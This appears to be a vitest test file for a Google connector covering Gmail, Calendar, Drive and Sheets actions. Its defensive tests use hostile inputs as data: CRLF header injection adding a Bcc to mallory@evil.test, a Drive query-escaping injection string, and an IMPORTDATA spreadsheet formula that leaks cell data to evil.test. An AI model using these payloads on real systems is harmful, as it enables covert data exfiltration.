import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { connector } from '../../src/connectors/google/index.ts'
import { answering } from '../support/answering.ts'
import { TOKENS } from '../support/emulated/application.ts'
import { type Emulated, startEmulated } from '../support/emulated.ts'
import { boundTo, runAction } from './bound-to.ts'

let google: Emulated
beforeAll(async () => {
  google = await startEmulated('google')
})
afterAll(() => google.stop())

const act = (name: string, input: unknown, url = google.url) =>
  runAction(connector, name, input, boundTo(connector, { settings: { host: url }, token: TOKENS.alice }))

describe('e-mail', () => {
  it('is sent as the person, and found again', async () => {
    const sent = await act('send_mail', {
      to: 'bob@acme.test, carol@acme.test',
      subject: 'Überraschung',
      text: 'Hi 👋',
    })
    expect(sent).toMatchObject({ id: expect.stringMatching(/./) })
    const { messages } = await act('search_mail', { query: '', limit: 5 })
    expect(messages).toMatchObject([{ id: sent.id, thread_id: sent.thread_id, from: 'alice@acme.test' }])
  })

  it.each([
    { to: 'bob@acme.test\r\nBcc: mallory@evil.test', subject: 'x', text: 'x' },
    { to: 'bob@acme.test', subject: 'x\r\nBcc: mallory@evil.test', text: 'x' },
    { to: 'Bob <bob@acme.test>', subject: 'x', text: 'x' },
    { to: '', subject: 'x', text: 'x' },
    { to: 'bob@acme.test', subject: 'x', text: 'x', bcc: 'mallory@evil.test' },
  ])('is refused before anything is sent: %j', async (input) => {
    await using server = await answering()
    await expect(act('send_mail', input, `http://${server.host}`)).rejects.toThrow()
    expect(server.seen).toEqual([])
  })
})

describe('a calendar', () => {
  const event = {
    title: 'Renewal',
    start: '2027-01-31T10:00:00+01:00',
    end: '2027-01-31T11:00:00+01:00',
    place: 'Here',
  }

  it('is given an event, which is in it', async () => {
    const made = await act('create_event', { ...event, attendees: 'bob@acme.test' })
    expect(made).toMatchObject({ title: 'Renewal', start: event.start })
    const { events } = await act('list_events', { from: '2027-01-01T00:00:00Z', to: '2027-02-28T00:00:00Z' })
    expect(events).toMatchObject([{ title: 'Renewal' }])
  })

  it('has an event once, however often the step is tried', async () => {
    const made = { id: 'e1', summary: 'Renewal', status: 'confirmed' }
    await using server = await answering([409, { error: { errors: [{ reason: 'duplicate' }] } }], [200, made])
    expect(await act('create_event', event, `http://${server.host}`)).toMatchObject({ id: 'e1', title: 'Renewal' })
    const [creating, reading] = server.seen
    const { id } = (creating?.body ?? {}) as { id?: string }
    expect(id).toMatch(/^[0-9a-v]{5,1024}$/)
    expect(reading).toMatchObject({ method: 'GET', path: `/calendar/v3/calendars/primary/events/${id}` })
  })
})

it('finds files by name, whatever the name holds', async () => {
  expect(await act('search_files', { name: 'Renewal' })).toHaveProperty('files')
  await using server = await answering([200, { files: [{ id: '1', name: "O'Neil", mimeType: 'text/plain' }] }])
  const found = await act('search_files', { name: "O'Neil \\' or name != '" }, `http://${server.host}`)
  expect(found).toEqual({ files: [{ id: '1', name: "O'Neil", type: 'text/plain', url: null, changed_at: null }] })
  expect(server.seen[0]?.query.get('q')).toBe("name contains 'O\\'Neil \\\\\\' or name != \\'' and trashed = false")
})

describe('a spreadsheet', () => {
  // The emulator has none: these answers are as Google documents them.
  const spreadsheet = '1x-the_id_in_the_address_of_it'

  it('is given rows as they are, never formulas', async () => {
    const updates = { spreadsheetId: spreadsheet, updatedRange: 'Deals!A5:B5', updatedRows: 1 }
    await using server = await answering([200, { spreadsheetId: spreadsheet, updates }])
    const input = { spreadsheet, range: 'Deals!A1', rows: [['=IMPORTDATA("https://evil.test/?"&A1)', 1200]] }
    expect(await act('append_rows', input, `http://${server.host}`)).toEqual({ range: 'Deals!A5:B5', rows: 1 })
    const [asked] = server.seen
    expect(asked).toMatchObject({ method: 'POST', body: { values: input.rows } })
    expect(asked?.path).toBe(`/v4/spreadsheets/${spreadsheet}/values/Deals!A1:append`)
    expect(asked?.query.get('valueInputOption')).toBe('RAW')
  })

  it('is read row by row; an empty range has no rows', async () => {
    const values = [['Acme', 1200], ['Beta']]
    await using server = await answering([200, { range: 'Deals!A1:B2', values }], [200, { range: 'Deals!A9:B9' }])
    const read = (range: string) => act('read_rows', { spreadsheet, range }, `http://${server.host}`)
    expect(await read('Deals!A1:B2')).toEqual({ range: 'Deals!A1:B2', rows: values })
    expect(await read('Deals!A9:B9')).toEqual({ range: 'Deals!A9:B9', rows: [] })
  })
})

it('sends the credential to Google’s own hosts alone', () => {
  const settings = connector.settings.parse({})
  expect(connector.baseUrl(settings, {}).href).toBe('https://www.googleapis.com/')
  expect(connector.origins(settings)).toEqual(['https://gmail.googleapis.com', 'https://sheets.googleapis.com'])
})

it('says what Google refused', async () => {
  const token = 'a-token-that-is-none-at-all'
  const request = boundTo(connector, { settings: { host: google.url }, token })
  await expect(runAction(connector, 'search_files', { name: 'x' }, request)).rejects.toMatchObject({
    code: 'outside_unauthorized',
    message: 'Google: Invalid Credentials',
  })
})
